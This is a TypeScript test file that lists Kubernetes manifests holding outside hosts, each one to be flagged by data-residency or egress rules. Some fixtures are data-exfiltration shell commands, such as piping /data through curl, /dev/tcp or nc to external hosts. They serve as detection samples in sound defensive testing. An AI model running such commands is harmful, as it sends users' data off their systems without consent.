import { type Case, configMap, found, kube, pod, spec } from "./case.ts";

/** Hosts in texts of objects beside the components, each of which a mandatory rule must find. */
export const cases: readonly Case[] = [
  found(
    "OTLP over gRPC in a collector's ConfigMap",
    ["telemetry-stays-home"],
    configMap({ "relay.yaml": "exporters:\n  otlp:\n    endpoint: otlp.nr-data.net:4317\n" }),
  ),
  found(
    "Fluent Bit output",
    ["telemetry-stays-home"],
    configMap({ "fluent-bit.conf": "[OUTPUT]\n  Name http\n  Host http-intake.logs.us5.datadoghq.com\n  Port 443\n" }),
  ),
  found("a host alone, under a key that says nothing", ["destination-declared"], configMap({ upload: "s3.us-east-1.amazonaws.com" })),
  found("a shell script", ["destination-declared"], configMap({ "run.sh": "tar c /data | curl -T - files.us.example.com\n" })),
  found(
    "JSON with escaped slashes",
    ["destination-declared"],
    configMap({ "config.json": '{"sink":"https:\\/\\/ingest.us.example.com\\/v1"}' }),
  ),
  found(
    "Helm values in a ConfigMap: an image, a mail host",
    ["destination-declared"],
    configMap({ "values.yaml": "image:\n  repository: ghcr.io/evil/x\nsmtp:\n  host: smtp.us.example.com\n" }),
  ),
  found(
    "an env map of Helm values, host without a scheme",
    ["destination-declared"],
    kube("helm.toolkit.fluxcd.io/v2:HelmRelease", { spec: { values: { env: { AWS_ENDPOINT: "s3.us-east-1.amazonaws.com" } } } }),
  ),
  found(
    "schema registry of a KafkaConnector",
    ["destination-declared", "kind-known"],
    kube("kafka.strimzi.io/v1beta2:KafkaConnector", {
      spec: { config: { "value.converter.schema.registry.url": "https://psrc-1.us-east-2.aws.confluent.cloud" } },
    }),
  ),
  found(
    "URL under a key `tls`",
    ["destination-declared", "kind-known"],
    kube("example.com/v1:Sink", { spec: { output: { tls: { url: "https://us.example.com" } } } }),
  ),
  found(
    "control plane endpoint abroad",
    ["destination-declared", "objects-match-facts"],
    kube("cluster.x-k8s.io/v1beta2:Cluster", { spec: { controlPlaneEndpoint: { host: "k8s.texas.us.example.com", port: 6443 } } }),
  ),
  found(
    "annotation of a Pod that Vault's injector reads",
    ["destination-declared"],
    kube("core/v1:Pod", { metadata: { annotations: { "vault.hashicorp.com/service": "https://vault.us.example.com" } }, spec: spec() }),
  ),
  found(
    "annotations of an Ingress without a scheme",
    ["ingress-declared", "service-destination-declared"],
    kube("networking.k8s.io/v1:Ingress", {
      metadata: { annotations: { "external-dns.alpha.kubernetes.io/target": "lb.us-east-1.elb.amazonaws.com" } },
      spec: {},
    }),
  ),
  found(
    "CNAME of a DNSEndpoint",
    ["destination-declared", "kind-known"],
    kube("externaldns.k8s.io/v1alpha1:DNSEndpoint", {
      spec: { endpoints: [{ dnsName: "inference.api.nscale.com", recordType: "CNAME", targets: ["lb.us-east-1.elb.amazonaws.com"] }] },
    }),
  ),
  found("ConfigMap key `description`", ["destination-declared"], configMap({ description: "https://us.example.com" })),
  found(
    "fields sink, target, destination of an unknownText kind",
    ["destination-declared", "kind-known"],
    kube("acme.io/v1:Shipper", { spec: { sink: "us.example.com", target: "us.example.com", destination: "us.example.com" } }),
  ),
  found("a host under .ae", ["destination-declared"], pod({ args: ["--sink", "collector.acme.ae"] })),
  found("/dev/tcp", ["destination-declared"], pod({ command: ["bash", "-c", "tar c /data > /dev/tcp/files.us.example.com/443"] })),
  found("a bare IPv6 address", ["destination-declared"], pod({ command: ["sh", "-c", "nc 2600:1f18:1::1 443 < /data"] })),
  found(
    "keys of SDKs whose default host is abroad",
    ["destination-declared", "telemetry-stays-home"],
    pod({ env: ["OPENAI_API_KEY", "LANGSMITH_API_KEY", "HONEYCOMB_API_KEY", "HF_TOKEN"].map((name) => ({ name, value: "k" })) }),
  ),
  found(
    "pager and mail of an AlertmanagerConfig",
    ["destination-declared", "kind-known"],
    kube("monitoring.coreos.com/v1alpha1:AlertmanagerConfig", {
      spec: {
        receivers: [
          {
            name: "a",
            emailConfigs: [{ to: "x@y", smarthost: "smtp.us.example.com:587" }],
            pagerdutyConfigs: [{ routingKey: { name: "s", key: "k" } }],
          },
        ],
      },
    }),
  ),
];
